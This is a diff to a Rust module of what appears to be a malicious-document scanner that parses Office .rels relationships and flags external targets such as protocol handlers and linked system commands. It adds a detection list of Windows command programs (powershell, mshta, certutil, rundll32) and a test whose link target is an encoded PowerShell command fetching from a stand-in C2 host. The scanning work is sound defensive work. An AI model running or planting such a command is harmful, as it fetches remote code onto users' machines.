@@ -1,11 +1,14 @@
 //! Relations of a package to the world outside it (ECMA-376 part 2, 6.5): links that wait for a click, and parts
 //! that Office fetches when it opens the document.
 
+use super::Part;
 use super::fields::attribute;
+use super::types::plain;
+use crate::examine::Walk;
 use crate::ole::tell_macro_sheet;
 use crate::rtf::tell_external;
-use crate::rules;
 use crate::text::decode_text;
+use crate::{rules, unfold};
 use quick_xml::events::{BytesStart, Event};
 use quick_xml::reader::Reader;
 use strongroom_model::{Finding, Gap, Observable, Report, Role, Span, Why};
@@ -20,6 +23,19 @@ const FETCHED: [&str; 6] = [
     "control",
 ];
 
+/// Programs of the system whose name begins a command.
+const COMMANDS: [&str; 9] = [
+    "powershell",
+    "pwsh",
+    "cmd",
+    "mshta",
+    "wscript",
+    "cscript",
+    "rundll32",
+    "regsvr32",
+    "certutil",
+];
+
 /// Protocols whose handler is a program with a past of faults.
 const HANDLERS: [&str; 6] = [
     "ms-msdt:",
@@ -30,23 +46,83 @@ const HANDLERS: [&str; 6] = [
     "vbscript:",
 ];
 
-/// Reads a `.rels` part.
-pub(super) fn read_relations(bytes: &[u8], name: &str, report: &mut Report) {
+/// Reads a `.rels` part, and returns the parts that their relation tells more of than their name.
+pub(super) fn read_relations(
+    bytes: &[u8],
+    name: &str,
+    report: &mut Report,
+    walk: &mut Walk<'_>,
+) -> Vec<(String, Part)> {
+    let mut parts = Vec::new();
     let text = decode_text(bytes);
     let mut reader = Reader::from_str(&text);
     loop {
         match reader.read_event() {
             Ok(Event::Start(tag) | Event::Empty(tag)) if tag.local_name().as_ref() == "Relationship" => {
-                relation(&tag, name, report);
+                if let Some((part, target)) = inner(&tag, name) {
+                    parts.push((target, part));
+                }
+                relation(&tag, name, report, walk);
             }
-            Ok(Event::Eof) => return,
+            Ok(Event::Eof) => return parts,
+            // Office opens no package with a document type, and what its entities spell is not read here.
+            Ok(Event::DocType(_)) => {
+                report.gap(Gap::new(
+                    name,
+                    Why::Unsupported,
+                    "its document type and entities are not read",
+                ));
+            }
             Ok(_) => {}
-            Err(error) => return report.gap(Gap::new(name, Why::Damaged, error)),
+            Err(error) => {
+                report.gap(Gap::new(name, Why::Damaged, error));
+                return parts;
+            }
         }
     }
 }
 
-fn relation(tag: &BytesStart<'_>, name: &str, report: &mut Report) {
+/// Returns the part inside the package that a relation leads to, where it is one that must be read, and what it is.
+fn inner(tag: &BytesStart<'_>, name: &str) -> Option<(Part, String)> {
+    let kind = attribute(tag, "Type")?.to_ascii_lowercase();
+    let part = match kind.rsplit('/').next()? {
+        "afchunk"
+        | "oleobject"
+        | "package"
+        | "vbaproject"
+        | "activexcontrolbinary"
+        | "attachedtoolbars"
+        | "subdocument" => Part::Embedded,
+        "control" => Part::Control,
+        "extensibility" => Part::Ribbon,
+        _ => return None,
+    };
+    let target = attribute(tag, "Target")?;
+    if attribute(tag, "TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("external")) {
+        return None;
+    }
+    Some((part, resolve(name, &target)))
+}
+
+/// Returns the name of a part by the name of the `.rels` part and a target, which counts from the folder of the source.
+fn resolve(rels: &str, target: &str) -> String {
+    let target = target.replace('\\', "/");
+    let rels = rels.replace('\\', "/").to_ascii_lowercase();
+    let folder = rels.rsplit_once("_rels/").map_or("", |(folder, _)| folder);
+    let from = if target.starts_with('/') { "" } else { folder };
+    let mut steps: Vec<&str> = Vec::new();
+    let whole = format!("{from}{target}");
+    for step in whole.split('/').filter(|step| !step.is_empty() && *step != ".") {
+        if step == ".." {
+            steps.pop();
+        } else {
+            steps.push(step);
+        }
+    }
+    plain(&steps.join("/"))
+}
+
+fn relation(tag: &BytesStart<'_>, name: &str, report: &mut Report, walk: &mut Walk<'_>) {
     macro_sheet(tag, name, report);
     let external = attribute(tag, "TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("external"));
     let (Some(target), true) = (attribute(tag, "Target"), external) else {
@@ -54,16 +130,38 @@ fn relation(tag: &BytesStart<'_>, name: &str, report: &mut Report) {
     };
     let kind = attribute(tag, "Type").unwrap_or_default();
     let kind = kind.rsplit('/').next().unwrap_or_default().to_owned();
-    note_target(&kind, &target, name, report);
+    note_target(&kind, &target, name, report, walk);
+}
+
+/// Returns the command that a target is: a program of the system with words behind it.
+fn command_of(target: &str) -> Option<String> {
+    let text = String::from_utf8_lossy(&crate::markup::unescaped(target)).into_owned();
+    let bare = text
+        .trim()
+        .trim_start_matches("file:")
+        .trim_start_matches(['/', '\\', '"']);
+    let (program, words) = bare.split_once(' ')?;
+    let base = program
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(program)
+        .to_ascii_lowercase();
+    let base = base.trim_end_matches('"').trim_end_matches(".exe");
+    (COMMANDS.contains(&base) && !words.trim().is_empty()).then(|| bare.to_owned())
 }
 
 /// Tells a target outside the document by the kind of its relation: what is fetched on opening from what waits for a
 /// click. `name` is the part that names it.
-pub(crate) fn note_target(kind: &str, target: &str, name: &str, report: &mut Report) {
+pub(crate) fn note_target(kind: &str, target: &str, name: &str, report: &mut Report, walk: &mut Walk<'_>) {
     let at = Span::bytes(name, 0, 0);
     let lower = target.trim().to_ascii_lowercase();
     if HANDLERS.iter().any(|handler| lower.contains(handler)) {
         report.find(Finding::of(&rules::PROTOCOL_HANDLER, at.clone()).fact("target", target));
+    }
+    if let Some(command) = command_of(target) {
+        let shown: String = command.chars().take(300).collect();
+        report.find(Finding::of(&rules::LINKED_COMMAND, at.clone()).fact("command", shown));
+        return unfold::read_started("link", "target", &command, report, walk);
     }
     let fetched = FETCHED.contains(&kind.to_ascii_lowercase().as_str());
     match place_of(target) {
@@ -128,14 +226,20 @@ fn place_of(target: &str) -> Place {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use strongroom_model::{Evidence, Kind};
+    use strongroom_model::{Evidence, Kind, Limits};
 
     fn read(kind: &str, target: &str) -> Report {
         let text = format!(
             "<Relationships xmlns=\"http://ns.example/\"><Relationship Id=\"r\" Type=\"http://ns.example/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
         );
         let mut report = Report::new(Evidence::of_bytes("a", Kind::Docx, b""));
-        read_relations(text.as_bytes(), "word/_rels/document.xml.rels", &mut report);
+        let limits = Limits::default();
+        read_relations(
+            text.as_bytes(),
+            "word/_rels/document.xml.rels",
+            &mut report,
+            &mut Walk::new(&limits),
+        );
         report
     }
 
@@ -146,7 +250,13 @@ mod tests {
                 "<Relationships><Relationship Type=\"http://ns.example/xlMacrosheet\" Target=\"{target}\"/></Relationships>"
             );
             let mut report = Report::new(Evidence::of_bytes("a", Kind::Xlsm, b""));
-            read_relations(text.as_bytes(), "xl/_rels/workbook.xml.rels", &mut report);
+            let limits = Limits::default();
+            read_relations(
+                text.as_bytes(),
+                "xl/_rels/workbook.xml.rels",
+                &mut report,
+                &mut Walk::new(&limits),
+            );
             report
         };
         assert_eq!(
@@ -189,5 +299,33 @@ mod tests {
         assert!(link.findings.is_empty());
         assert_eq!(link.observables.len(), 1);
         assert!(read("attachedTemplate", "file:///C:\\x.dot").findings.is_empty());
+    }
+
+    #[test]
+    fn a_command_as_a_target_is_told_and_followed() {
+        let report = read(
+            "hyperlink",
+            "powershell%20-NoP%20-Command%20%22iwr%20https://c2.example/a%22",
+        );
+        assert_eq!(report.findings[0].code, "files.linked-command");
+        assert!(
+            report
+                .observables
+                .iter()
+                .any(|seen| seen.observable.value() == "https://c2.example/a")
+        );
+    }
+
+    #[test]
+    fn targets_are_resolved_as_packages_do() {
+        let rels = "word/_rels/document.xml.rels";
+        for (target, part) in [
+            ("media/a.bin", "word/media/a.bin"),
+            ("../X/./A.bin", "x/a.bin"),
+            ("/word/a%20b.bin", "word/a b.bin"),
+            ("..\\..\\..\\c.bin", "c.bin"),
+        ] {
+            assert_eq!(resolve(rels, target), part);
+        }
     }
 }
